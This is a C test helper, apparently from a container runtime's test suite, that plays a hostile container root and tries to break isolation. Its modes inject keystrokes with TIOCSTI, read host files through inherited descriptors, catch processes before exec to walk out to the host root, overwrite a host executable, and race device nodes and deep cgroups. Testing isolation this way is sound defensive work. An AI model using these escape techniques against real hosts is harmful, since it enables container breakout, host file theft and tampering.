/* What a container's root would run against the host, built static by the
 * tests into a rootfs (gcc -static). Modes:
 *   hostile sti TEXT          TIOCSTI TEXT into fds 0-2; prints which worked
 *   hostile fd N PATH         reads PATH through the inherited fd N (a host
 *                             folder) and prints it
 *   hostile watch DIR         until DIR/finish exists: stops every new process
 *                             (the next pids, read from ns_last_pid); of one
 *                             that has not exec'd yet (its comm is neither
 *                             "true" nor "hostile") it records its fds, walks ".."
 *                             from each folder fd to read DIR/canary-path,
 *                             keeps its exe open and, once nobody runs it,
 *                             writes into it; reports in DIR/report
 *   hostile finish DIR        asks the watcher to end, waits for DIR/done
 *   hostile calls             calls what the default seccomp filter denies,
 *                             with arguments that fail otherwise with
 *                             anything but EPERM; prints "NAME: ERROR"
 *   hostile hog MIB           allocates and touches MIB MiB, then prints
 *                             "survived MIB MiB" (a memory limit kills it first)
 *   hostile swapdev DIR N     makes DIR/.dev, a device node (1:3, /dev/null's),
 *                             and N pairs of names, a plain file and a link to
 *                             it, exchanged without end, until DIR/stop
 *                             exists; keeps "opened K" in DIR/report: how
 *                             often another process opened the device
 *                             (inotify on its inode; the helper never does)
 *   hostile cgdeep DIR N      in each cgroup hierarchy folder of DIR, makes N
 *                             nested cgroups of 250-character names (a path
 *                             past PATH_MAX on the host), moves a child into
 *                             the deepest of each and leaves it there asleep;
 *                             prints "deep N" for each hierarchy
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <poll.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <unistd.h>

static FILE *report;
static int exes[64];
static int nexes;
static int exe_written;

static int sti(const char *text)
{
	for (int fd = 0; fd <= 2; fd++) {
		int ok = 1;
		for (const char *p = text; *p; p++)
			if (ioctl(fd, TIOCSTI, p) < 0)
				ok = 0;
		fprintf(stderr, "fd %d: TIOCSTI %s\n", fd, ok ? "worked" : strerror(errno));
	}
	return 0;
}

static int read_through(int dirfd, const char *path, char *buf, size_t len)
{
	int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, buf, len - 1);
	close(fd);
	if (n < 0)
		return -1;
	buf[n] = '\0';
	return 0;
}

static int fd_mode(int n, const char *path)
{
	char buf[4096];
	struct stat st;
	if (fstat(n, &st) < 0) {
		printf("fd %d: %s\n", n, strerror(errno));
		return 1;
	}
	if (read_through(n, path, buf, sizeof(buf)) < 0) {
		printf("fd %d: reading %s: %s\n", n, path, strerror(errno));
		return 1;
	}
	printf("fd %d: read %s: %s\n", n, path, buf);
	return 0;
}

/* From a folder of the host's tree, ".." leads to the host's "/". */
static void walk_out(int pid, int fd, const char *target)
{
	char p[128], buf[256];
	snprintf(p, sizeof(p), "/proc/%d/fd/%d", pid, fd);
	int d = open(p, O_RDONLY | O_DIRECTORY);
	if (d < 0)
		return;
	for (int i = 0; i < 64; i++) {
		int up = openat(d, "..", O_RDONLY | O_DIRECTORY);
		if (up < 0)
			break;
		close(d);
		d = up;
	}
	if (read_through(d, target + 1, buf, sizeof(buf)) == 0)
		fprintf(report, "pid %d fd %d: read the host's %s: %s\n", pid, fd, target, buf);
	close(d);
}

static int seen[4096];
static int nseen;

static void inspect(int pid, const char *target)
{
	for (int i = 0; i < nseen; i++)
		if (seen[i] == pid)
			return;
	char p[128], link[256], comm[32] = "";
	/* exec'd: the commands the test runs are "true" and this helper */
	snprintf(p, sizeof(p), "/proc/%d/comm", pid);
	if (read_through(AT_FDCWD, p, comm, sizeof(comm)) < 0 || !strcmp(comm, "true\n") ||
	    !strcmp(comm, "hostile\n"))
		return;
	snprintf(p, sizeof(p), "/proc/%d/exe", pid);
	fprintf(report, "pid %d: caught before exec\n", pid);
	if (nseen < 4096)
		seen[nseen++] = pid;
	if (nexes < 64) {
		int e = open(p, O_RDONLY | O_CLOEXEC);
		if (e >= 0)
			exes[nexes++] = e;
	}
	snprintf(p, sizeof(p), "/proc/%d/fd", pid);
	DIR *d = opendir(p);
	if (!d)
		return;
	struct dirent *de;
	while ((de = readdir(d))) {
		int fd = atoi(de->d_name);
		if (de->d_name[0] == '.' || fd <= 2)
			continue;
		char fp[512];
		snprintf(fp, sizeof(fp), "%s/%s", p, de->d_name);
		ssize_t n = readlink(fp, link, sizeof(link) - 1);
		link[n > 0 ? n : 0] = '\0';
		fprintf(report, "pid %d holds fd %d: %s\n", pid, fd, link);
		walk_out(pid, fd, target);
	}
	closedir(d);
}

/* Writes into each exe kept open, through /proc/self/fd (a fresh open for
 * writing, ETXTBSY while any process runs it). */
static void write_exes(void)
{
	for (int i = 0; i < nexes && !exe_written; i++) {
		char p[64];
		snprintf(p, sizeof(p), "/proc/self/fd/%d", exes[i]);
		int w = open(p, O_WRONLY);
		if (w < 0)
			continue;
		if (pwrite(w, "HACKED", 6, 0) == 6) {
			fprintf(report, "wrote into the exe of a caught process\n");
			exe_written = 1;
		}
		close(w);
	}
}

static int last_pid(void)
{
	char buf[32];
	if (read_through(AT_FDCWD, "/proc/sys/kernel/ns_last_pid", buf, sizeof(buf)) < 0)
		return -1;
	return atoi(buf);
}

static int watch(const char *dir)
{
	char p[512], target[256] = "";
	snprintf(p, sizeof(p), "%s/canary-path", dir);
	if (read_through(AT_FDCWD, p, target, sizeof(target)) < 0)
		return 1;
	target[strcspn(target, "\n")] = '\0';
	snprintf(p, sizeof(p), "%s/report", dir);
	report = fopen(p, "w");
	if (!report)
		return 1;
	setvbuf(report, NULL, _IOLBF, 0);
	snprintf(p, sizeof(p), "%s/ready", dir);
	close(open(p, O_WRONLY | O_CREAT, 0644));
	snprintf(p, sizeof(p), "%s/finish", dir);
	int self = getpid();
	for (unsigned long spin = 0;; spin++) {
		int last = last_pid();
		for (int pid = last + 1; pid > 1 && pid <= last + 4; pid++) {
			if (pid == self || kill(pid, SIGSTOP) < 0)
				continue;
			inspect(pid, target);
			kill(pid, SIGCONT);
		}
		if (last > 1 && last != self && kill(last, SIGSTOP) == 0) {
			inspect(last, target);
			kill(last, SIGCONT);
		}
		if (spin % 1024 == 0) {
			write_exes();
			if (access(p, F_OK) == 0)
				break;
		}
	}
	write_exes();
	fprintf(report, "end\n");
	fclose(report);
	snprintf(p, sizeof(p), "%s/done", dir);
	close(open(p, O_WRONLY | O_CREAT, 0644));
	return 0;
}

static int finish(const char *dir)
{
	char p[512];
	snprintf(p, sizeof(p), "%s/finish", dir);
	close(open(p, O_WRONLY | O_CREAT, 0644));
	snprintf(p, sizeof(p), "%s/done", dir);
	for (int i = 0; i < 300 && access(p, F_OK) < 0; i++)
		usleep(100000);
	return access(p, F_OK) == 0 ? 0 : 1;
}

static int calls(void)
{
	static const struct {
		const char *name;
		long nr, a, b, c;
	} t[] = {
		{ "syslog", SYS_syslog, 10, 0, 0 }, /* SYSLOG_ACTION_SIZE_BUFFER */
		{ "swapon", SYS_swapon, 0, 0, 0 },
		{ "swapoff", SYS_swapoff, 0, 0, 0 },
		{ "bpf", SYS_bpf, 0, 0, 0 },
		{ "perf_event_open", SYS_perf_event_open, 0, 0, -1 },
		{ "keyctl", SYS_keyctl, 0, -3, 0 }, /* KEYCTL_GET_KEYRING_ID of the session keyring */
		{ "add_key", SYS_add_key, 0, 0, 0 },
		{ "request_key", SYS_request_key, 0, 0, 0 },
	};
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		long r = syscall(t[i].nr, t[i].a, t[i].b, t[i].c, 0, 0);
		printf("%s: %s\n", t[i].name, r < 0 ? strerror(errno) : "ok");
	}
	return 0;
}

static int hog(long mib)
{
	for (long i = 0; i < mib; i++) {
		char *p = malloc(1 << 20);
		if (!p) {
			printf("malloc failed at %ld MiB\n", i);
			return 1;
		}
		memset(p, 0x5a, 1 << 20); /* touched: counted by the memory cgroup */
	}
	printf("survived %ld MiB\n", mib);
	return 0;
}

/* N levels below dirfd, made and entered by fd (no path is ever that
 * long); the deepest level's fd. */
static int cg_nest(int dirfd, int n)
{
	char name[251];
	memset(name, 'd', 250);
	name[250] = '\0';
	int fd = dup(dirfd);
	for (int i = 0; i < n && fd >= 0; i++) {
		if (mkdirat(fd, name, 0755) < 0 && errno != EEXIST)
			return -1;
		int sub = openat(fd, name, O_RDONLY | O_DIRECTORY);
		close(fd);
		fd = sub;
	}
	return fd;
}

static int cgdeep(const char *dir, int n)
{
	DIR *d = opendir(dir);
	if (!d)
		return 1;
	int deep[32], nd = 0;
	struct dirent *de;
	while ((de = readdir(d)) && nd < 32) {
		if (de->d_name[0] == '.' || de->d_type != DT_DIR)
			continue;
		int h = openat(dirfd(d), de->d_name, O_RDONLY | O_DIRECTORY);
		int fd = h >= 0 ? cg_nest(h, n) : -1;
		if (h >= 0)
			close(h);
		if (fd < 0)
			continue;
		deep[nd++] = fd;
		printf("deep %s\n", de->d_name);
	}
	closedir(d);
	fflush(stdout);
	if (fork() != 0)
		return nd ? 0 : 1;
	setsid();
	for (int i = 0; i < nd; i++) {
		int p = openat(deep[i], "cgroup.procs", O_WRONLY);
		if (p >= 0) {
			if (write(p, "0", 1) < 0)
				perror("cgroup.procs");
			close(p);
		}
		close(deep[i]);
	}
	int null = open("/dev/null", O_RDWR);
	for (int i = 0; i <= 2; i++)
		dup2(null, i);
	for (;;)
		pause();
}

static int swapdev(const char *dir, int n)
{
	char a[64], b[64];
	int dfd = open(dir, O_RDONLY | O_DIRECTORY);
	if (dfd < 0 || mknodat(dfd, ".dev", S_IFCHR | 0600, makedev(1, 3)) < 0)
		return 1;
	int in = inotify_init1(IN_CLOEXEC);
	snprintf(a, sizeof(a), "%s/.dev", dir);
	if (in < 0 || inotify_add_watch(in, a, IN_OPEN) < 0)
		return 1;
	static char data[4096];
	memset(data, 'x', sizeof(data));
	for (int i = 0; i < n; i++) {
		snprintf(a, sizeof(a), "f%d", i);
		snprintf(b, sizeof(b), "d%d", i);
		int fd = openat(dfd, a, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd < 0 || write(fd, data, sizeof(data)) < 0 || linkat(dfd, ".dev", dfd, b, 0) < 0)
			return 1;
		close(fd);
	}
	pid_t child = fork();
	if (child == 0) {
		for (;;)
			for (int i = 0; i < n; i++) {
				snprintf(a, sizeof(a), "f%d", i);
				snprintf(b, sizeof(b), "d%d", i);
				syscall(SYS_renameat2, dfd, a, dfd, b, 2 /* RENAME_EXCHANGE */);
			}
	}
	long opened = 0;
	for (long told = -1; faccessat(dfd, "stop", F_OK, 0) < 0;) {
		if (told != opened) {
			int fd = openat(dfd, "report.tmp", O_WRONLY | O_CREAT | O_TRUNC, 0644);
			dprintf(fd, "opened %ld\n", opened);
			close(fd);
			renameat(dfd, "report.tmp", dfd, "report");
			told = opened;
		}
		struct pollfd p = { .fd = in, .events = POLLIN };
		if (poll(&p, 1, 100) <= 0)
			continue;
		char buf[4096];
		ssize_t r = read(in, buf, sizeof(buf));
		for (char *q = buf; r > 0 && q < buf + r;) {
			struct inotify_event *ev = (struct inotify_event *)q;
			if (ev->mask & IN_OPEN)
				opened++;
			q += sizeof(*ev) + ev->len;
		}
	}
	kill(child, SIGKILL);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "swapdev"))
		return swapdev(argv[2], atoi(argv[3]));
	if (argc == 4 && !strcmp(argv[1], "cgdeep"))
		return cgdeep(argv[2], atoi(argv[3]));
	if (argc == 3 && !strcmp(argv[1], "hog"))
		return hog(atol(argv[2]));
	if (argc == 2 && !strcmp(argv[1], "calls"))
		return calls();
	if (argc == 3 && !strcmp(argv[1], "sti"))
		return sti(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "fd"))
		return fd_mode(atoi(argv[2]), argv[3]);
	if (argc == 3 && !strcmp(argv[1], "watch"))
		return watch(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "finish"))
		return finish(argv[2]);
	fprintf(stderr, "usage: hostile sti TEXT | fd N PATH | watch DIR | finish DIR | calls | hog MIB | cgdeep DIR N | swapdev DIR N\n");
	return 2;
}
